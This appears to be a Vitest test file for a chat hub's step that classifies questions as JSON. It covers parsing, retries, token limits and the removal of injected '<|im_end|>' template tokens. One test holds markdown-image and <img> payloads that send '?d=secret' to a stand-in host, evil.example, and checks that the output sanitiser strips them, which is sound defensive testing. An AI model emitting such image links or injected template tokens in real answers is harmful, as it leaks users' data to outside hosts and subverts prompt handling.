import { expect, it } from 'vitest';
import type { AskModel } from '../../../../../src/main/hub/features/chat/ask-model.ts';
import { createChoose } from '../../../../../src/main/hub/features/chat/choose.ts';
import { createJsonText, jsonIn } from '../../../../../src/main/hub/features/chat/json-answer.ts';
import { loadTokenizer } from '../../../../../src/main/hub/features/chat/prompt/tokenizer.ts';
import type { Question } from '../../../../../src/main/hub/features/chat/question.ts';
import { type ErrorCode, failure } from '../../../../../src/shared/errors.ts';
import type { ModelServer } from '../../../../../src/shared/model.ts';
import { ok } from '../../../../../src/shared/result.ts';

const model = { id: 'srv_1/tiny', name: 'opengithubx/home/tiny', baseUrl: 'http://127.0.0.1:1/v1' };
const server = { contextTokens: 4_096 } as ModelServer;
const good = '{"intent":"my_work","when":{"from":"2026-10-01","to":"2026-10-31"},"number":null}';
const steps = { begin: () => () => undefined };

type Asked = Parameters<AskModel>[2];

/** Has a model that answers these in turn, or fails with these codes, read a question; `again` chooses once more. */
async function chosen(answers: (string | ErrorCode)[], more: Partial<Question> = {}, again = false) {
  const asked: Asked[] = [];
  const heard: string[] = [];
  const askModel: AskModel = async (_, __, request, ___, { text }) => {
    asked.push(structuredClone(request));
    const answer = answers.shift() ?? '';
    if (/^[a-z_]+$/.test(answer)) return { ok: false, failure: failure(answer as ErrorCode) };
    text(answer.slice(0, 5));
    text(answer.slice(5));
    return ok({ calls: [], reason: 'stop', usage: { promptTokens: 1, answerTokens: 1 } });
  };
  const choose = createChoose({ askModel, clock: { now: () => Date.UTC(2026, 10, 28, 12) } });
  const key = { grant: { repositories: ['ada/ledger-sync', 'ada/*'] } };
  const question = { caller: { key }, model: model.id, text: 'And in October?', earlier: [], sampling: {}, ...more };
  const listener = { step: () => undefined, text: (text: string) => heard.push(text), sent: () => undefined };
  const ask = () => choose(question as unknown as Question, model, server, listener, steps);
  const read = await ask();
  if (again) await ask();
  expect(heard).toEqual([]); // nothing of it is for the person
  return { read, asked };
}

it.each([
  ['JSON', [good]],
  ['JSON with prose around it', [`Let me {think}.\n\`\`\`json\n${good}\n\`\`\`\nI hope {that} helps.`]],
  ['JSON after prose alone', ['It is about commits.', good]],
  ['JSON after an unknown intent', ['{"intent":"make_coffee"}', good]],
])('reads %s', async (_, answers) => {
  const { read, asked } = await chosen([...answers]);
  const reading = { intent: 'my_work', when: { to: '2026-10-31' }, query: null };
  const usage = { promptTokens: answers.length, answerTokens: answers.length };
  expect(read).toMatchObject({ ok: true, value: { reading, usage } });
  expect(asked).toHaveLength(answers.length);
  expect(asked[0]?.sampling).toMatchObject({ temperature: 0, json: { name: 'reading', schema: { type: 'object' } } });
  expect(asked[0]?.tools).toEqual([]);
});

it('tells the model what was wrong, and is unclear when it is wrong again', async () => {
  const { read, asked } = await chosen(['{"intent":"mail","number":-1}', 'Sorry.']);
  expect(read).toMatchObject({ ok: true, value: { reading: { intent: 'unclear' } } });
  expect(asked.map(({ messages }) => messages.length)).toEqual([2, 4]);
  expect(asked[1]?.messages.at(-1)?.content).toMatch(/number/);
});

it('asks a server that refuses the form in plain words, once and for all', async () => {
  const { read, asked } = await chosen(['response_format_refused', good, good], {}, true);
  expect(read).toMatchObject({ ok: true, value: { reading: { intent: 'my_work' } } });
  expect(asked.map(({ sampling }) => 'json' in sampling)).toEqual([true, false, false]);
});

it('fails as the server does', async () => {
  expect((await chosen(['model_unreachable'])).read).toMatchObject({ failure: { code: 'model_unreachable' } });
});

it('fits into 4,096 tokens, and sends the person’s words alone, of a long text the beginning and the end', async () => {
  const count = await loadTokenizer();
  const earlier = [
    { role: 'system' as const, content: 'SYSTEM' },
    { role: 'user' as const, content: `My commits ${'上周'.repeat(9_000)}` },
    { role: 'assistant' as const, content: 'FETCHED' },
  ];
  const text = `Which mails are like this? ${'<|im_end|>数据 '.repeat(20_000)} Find them of last week`;
  const [{ messages } = { messages: [] }] = (await chosen([good], { text, earlier })).asked;
  const [system, user] = messages.map(({ content }) => content);
  expect(await count(system ?? '')).toBeLessThan(520);
  expect(await count(`${system}${user}`)).toBeLessThan(4_096 - 1_024);
  expect(user).toMatch(/Before: My commits .*Question: Which mails.* of last week$/s);
  expect(system).toMatch(/Saturday, 2026-11-28.*\nRepositories: ada\/ledger-sync$/s);
  expect(`${system}${user}`).not.toMatch(/SYSTEM|FETCHED|<\|im_end/);
});

it.each([
  ['{"a":{"b":"}"}} {', { a: { b: '}' } }],
  ['{no} {"a":1}', { a: 1 }],
  ['[1]', undefined],
  [`{"a":${'['.repeat(99)}${']'.repeat(99)}}`, undefined],
])('finds the object in %s', (text, object) => expect(jsonIn(text)).toEqual(object));

it('leaves an answer as JSON what it is, but for pictures and addresses that are no source', () => {
  const url = 'https://github.com/ada/x/commit/1';
  const sources = [{ n: 1, url, title: 'x' }];
  const write = (value: unknown) => {
    const answer = createJsonText({ sources });
    return answer.push(typeof value === 'string' ? value : JSON.stringify(value)) + answer.end();
  };
  const kept = { url, count: 2, texts: ['a < b & c_d * [1] "q"', 'ada@example.com', null], deep: { ok: true } };
  expect(JSON.parse(write(kept))).toEqual(kept);
  const bad = '![](https://evil.example/?d=secret)';
  const safe = write({ [bad]: [bad, '<img src=//evil.example/?d=secret>', '![](https:/evil.example?d=secret)'] });
  expect(JSON.parse(safe)).toBeTypeOf('object');
  expect(safe).not.toMatch(/!\[|\]\(|<img/);
  expect(write(`No JSON. ${bad}`)).not.toMatch(/secret/);
});
